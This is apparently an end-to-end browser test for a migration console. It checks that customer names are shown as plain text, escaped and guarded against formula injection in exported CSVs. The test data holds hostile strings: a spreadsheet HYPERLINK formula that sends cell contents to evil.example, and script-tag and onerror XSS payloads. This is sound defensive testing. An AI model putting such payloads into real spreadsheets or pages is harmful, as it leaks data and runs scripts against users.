/*
 * Imported text is data: a name that a spreadsheet would run leaves guarded and comes back as it
 * was, and a name that a browser would run is shown letter by letter, on every screen it reaches.
 */
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { pathTo } from '#src/ui/paths.ts';
import { launchBrowser, openProfile } from '#test/support/browser.ts';
import {
  chooseFiles,
  finishEverything,
  loadExports,
  main,
  openScenario,
  pauseTime,
  press,
  row,
  saved,
  textOf,
  type Files,
} from '#test/support/console-actions.ts';
import {
  createCopyPlan,
  downloadRequiresAttention,
  openTab,
  runPlan,
} from '#test/support/copying-actions.ts';
import { parseCsvText } from '#test/support/read-zip.ts';

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click me")';
const SCRIPT = '<img src=x onerror=alert(1)>';
const HOSTILE = [
  FORMULA,
  SCRIPT,
  '+1+1',
  '@SUM(A1)',
  "'=already guarded",
  '"><script>alert(2)</script>',
];

let browser: Browser;

beforeAll(async () => {
  browser = await launchBrowser();
});

afterAll(() => browser.close());

function emailOf(name: string): string {
  return `hostile.${HOSTILE.indexOf(name)}@example.test`;
}

function quoted(cell: string): string {
  return `"${cell.replaceAll('"', '""')}"`;
}

/** Customers of the source, by hostile names. */
const customers: Files = [
  {
    name: `${SCRIPT}.csv`,
    text: [
      'username,full_name,email,active,last_login',
      ...HOSTILE.map((name) => `,${quoted(name)},${emailOf(name)},Yes,`),
    ].join('\n'),
  },
];

/** The same addresses as Atlassian accounts on the destination, so that all of them are reported. */
const accounts: Files = [
  {
    name: 'users.csv',
    text: [
      'User id,User name,email,User status,Added to org,Org role',
      ...HOSTILE.map((name) => `,${quoted(name)},${emailOf(name)},Active,12 Jan 2022,User`),
    ].join('\n'),
  },
];

test('hostile names are shown as text, leave guarded, and come back as they were', async () => {
  const { page, recorder } = await openProfile(browser);
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await openScenario(page, 'blank');
  await pauseTime(page);

  await loadExports(page, 'harbor-support', customers);
  await main(page)
    .getByRole('heading', { name: `${SCRIPT}.csv` })
    .waitFor();
  for (const name of HOSTILE) await main(page).getByText(name, { exact: true }).waitFor();
  await page.goto(pathTo('portal-customers', { siteId: 'site_harbor-support' }));
  for (const name of HOSTILE) await row(page, name).getByText(emailOf(name)).waitFor();
  await loadExports(page, 'harbor', accounts);

  await createCopyPlan(page, { name: SCRIPT, from: 'harbor-support', to: 'harbor' });
  await runPlan(page);
  await finishEverything(page);
  await openTab(page, 'Requires attention');
  for (const name of HOSTILE) await row(page, name).getByText(emailOf(name)).waitFor();

  const report = await downloadRequiresAttention(page);
  const rows = parseCsvText(textOf(report));
  const names = Object.fromEntries(rows.map((each) => [each['Email'], each['Display name']]));
  expect(rows).toHaveLength(HOSTILE.length);
  expect(names[emailOf(FORMULA)]).toBe(`'${FORMULA}`);
  for (const name of Object.values(names)) expect(name).not.toMatch(/^[=+\-@\t\r]/);

  const raw = await saved(page, () => press(main(page), 'RequiresAttention.csv, raw'));
  const rawNames = parseCsvText(textOf(raw)).map((each) => each['Display name']);
  expect(rawNames.toSorted()).toEqual(HOSTILE.toSorted());

  await chooseFiles(page, 'Drop RequiresAttention.csv here', [
    { name: report.name, text: textOf(report) },
  ]);
  const checked = page.getByRole('region', { name: `Rows of ${report.name}` });
  await checked.getByText(`${HOSTILE.length} open, 0 done`).waitFor();
  for (const name of HOSTILE) await checked.getByText(name, { exact: true }).waitFor();

  expect(await page.locator('img, iframe, main script').count()).toBe(0);
  expect(dialogs).toEqual([]);
  recorder.expectClean();
});
